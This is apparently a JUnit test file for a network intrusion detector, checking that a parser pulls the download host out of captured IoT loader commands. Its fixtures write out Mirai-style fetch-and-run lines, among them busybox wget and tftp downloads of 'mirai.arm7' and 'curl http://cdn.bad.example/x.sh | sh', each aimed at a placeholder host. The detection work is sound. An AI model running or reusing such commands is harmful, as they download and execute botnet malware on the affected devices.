package io.bulwark.detect.infection;

import io.bulwark.decode.packet.Packet;
import org.junit.jupiter.api.Test;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 18, item 8: a loader that logs in and commands {@code wget http://X/bins/mirai.arm7}
 * was reported with the login host as the only source. The download server its command names
 * is read from the command itself.
 */
class LoaderMarkersTest {
    private static Packet payload(String text) {
        Packet p = new Packet();
        byte[] b = text.getBytes(StandardCharsets.ISO_8859_1);
        p.buf = ByteBuffer.wrap(b);
        p.payloadOffset = 0;
        p.payloadLength = b.length;
        return p;
    }

    @Test
    void wgetAndCurlUrls_nameTheirHost() {
        assertThat(LoaderMarkers.downloadServer(payload(
                "cd /tmp; /bin/busybox wget http://203.0.113.7:8080/bins/mirai.arm7 -O - > dvrHelper\r\n"), 1500))
                .isEqualTo("203.0.113.7");
        assertThat(LoaderMarkers.downloadServer(payload("curl http://cdn.bad.example/x.sh | sh\n"), 1500))
                .isEqualTo("cdn.bad.example");
    }

    @Test
    void tftpCommand_namesTheAddressOnItsLine() {
        assertThat(LoaderMarkers.downloadServer(payload(
                "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 198.51.100.23; /bin/busybox ECCHI\r\n"), 1500))
                .isEqualTo("198.51.100.23");
    }

    @Test
    void usageTextAndVersionNumbers_nameNothing() {
        assertThat(LoaderMarkers.downloadServer(payload("Usage: tftp [OPTIONS] HOST [PORT]\r\nBusyBox v1.19.4\r\n"), 1500))
                .isNull();
        assertThat(LoaderMarkers.downloadServer(payload("tftp 1.2.3 is installed\r\n"), 1500)).isNull();
        assertThat(LoaderMarkers.downloadServer(payload("http://"), 1500)).isNull();
    }
}
